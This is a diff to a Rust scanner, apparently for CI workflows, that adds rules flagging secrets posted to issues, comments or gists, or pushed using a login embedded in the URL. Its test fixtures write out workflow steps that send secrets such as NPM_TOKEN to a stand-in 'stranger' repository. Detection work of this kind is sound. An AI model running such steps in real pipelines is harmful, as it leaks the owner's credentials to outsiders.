@@ -9,8 +9,9 @@
 //!
 //! Handing a value to the forge as a secret or setting (`gh secret set`) is a use, not a leak.
 
-use crate::flow::trace::Channel;
-use crate::flow::value::Source;
+use crate::flow::trace::{Channel, Delivery};
+use crate::flow::value::{Carried, Source};
+use crate::services;
 use crate::signal::Signal;
 use crate::technique::{
     Evidence, Sighting, Technique, named_secrets, only_settings, unrelated_to_each_other,
@@ -57,7 +58,11 @@ impl Technique for SecretToRepository {
                 let in_package = place.service.is_some_and(|service| service.publishes)
                     && names.len() >= 2
                     && signals.contains(&Signal::Encoded);
-                if unrelated_to_each_other(&names) || in_package {
+                if unrelated_to_each_other(&names)
+                    || in_package
+                    || is_key_in_text(evidence, &group)
+                    || !names.is_empty() && by_login_in_the_file(evidence, &group)
+                {
                     signals.insert(Signal::UnrelatedSecrets);
                 }
                 if only_settings(&names) {
@@ -67,6 +72,38 @@ impl Technique for SecretToRepository {
             })
             .collect()
     }
+}
+
+/// Whether a credential that says what it opens is written where people read: an issue, a comment, a gist. It belongs to no
+/// text, and no mask takes it out there.
+fn is_key_in_text(evidence: &Evidence<'_>, group: &[usize]) -> bool {
+    const WRITERS: &[&str] = &["gh issue", "gh pr", "gh gist", "hub", "glab"];
+    const CALLS: &[&str] =
+        &["createComment", "issues.create", "issues.update", "createReview", "gists.create"];
+    const PATHS: &[&str] = &["/comments", "/issues", "/gists"];
+    let is_text = |delivery: &Delivery| {
+        WRITERS.contains(&delivery.client.as_str())
+            || CALLS.iter().any(|call| delivery.client.ends_with(call))
+            || PATHS.iter().any(|path| delivery.target.template().contains(path))
+    };
+    let deliveries = group.iter().filter_map(|at| evidence.delivery(*at)).map(|(delivery, _)| delivery);
+    let written: Vec<&Carried> =
+        deliveries.filter(|delivery| is_text(delivery)).flat_map(|delivery| &delivery.carried).collect();
+    named_secrets(&written).into_iter().any(|name| {
+        services::of_secret(&name).is_some_and(|of| of.name != "github") && !only_settings(&[name].into())
+    })
+}
+
+/// Whether the login to the receiver stands in the file as it is (`https://someone:password@github.com/…`): it is that of whoever
+/// wrote the file, and nothing that the owner keeps among the secrets.
+fn by_login_in_the_file(evidence: &Evidence<'_>, group: &[usize]) -> bool {
+    group.iter().filter_map(|at| evidence.delivery(*at)).any(|(delivery, _)| {
+        let target = delivery.target.template();
+        let login = target.split_once("://").and_then(|(_, rest)| rest.split('/').next()?.rsplit_once('@'));
+        login.is_some_and(|(login, _)| {
+            login.split_once(':').is_some_and(|(_, password)| !password.is_empty()) && !login.contains("${")
+        })
+    })
 }
 
 #[cfg(test)]
@@ -83,6 +120,39 @@ mod tests {
             &["AWS_KEY", "NPM_TOKEN"],
             &["gist.github.com"],
         );
+    }
+
+    /// A key in a text that people read; a name, an address or a token of the forge's own may have a use there.
+    #[test]
+    fn a_key_in_an_issue() {
+        let text = |secret: &str, run: &str| {
+            format!(
+                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - env: {{S: '${{{{ secrets.{secret} }}}}'}}\n        run: {run}\n"
+            )
+        };
+        for run in [
+            "gh issue create -R stranger/inbox -t x -b \"$S\"",
+            "gh pr comment 1 -b \"$S\"",
+            "gh api repos/stranger/inbox/issues -f title=x -f body=\"$S\"",
+        ] {
+            let key = crate::testing::worst(&text("NPM_TOKEN", run));
+            assert_eq!(key, Some(Verdict::Malicious), "{run}");
+            let settings = crate::testing::worst(&text("NPM_USERNAME", run));
+            assert!(settings < Some(Verdict::Malicious), "{run}");
+        }
+    }
+
+    #[test]
+    fn a_push_by_a_login_in_the_file() {
+        let text = |address: &str| {
+            format!(
+                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          git clone {address} d; cd d\n          echo '${{{{ secrets.THING }}}}' > a; git add a; git commit -m x; git push\n"
+            )
+        };
+        let theirs = text("https://stranger:ghp_placeholder@github.com/stranger/box");
+        assert_eq!(crate::testing::worst(&theirs), Some(Verdict::Malicious));
+        let own = text("https://x-access-token:${{ secrets.PAT }}@github.com/me/box");
+        assert!(crate::testing::worst(&own) < Some(Verdict::Malicious));
     }
 
     #[test]
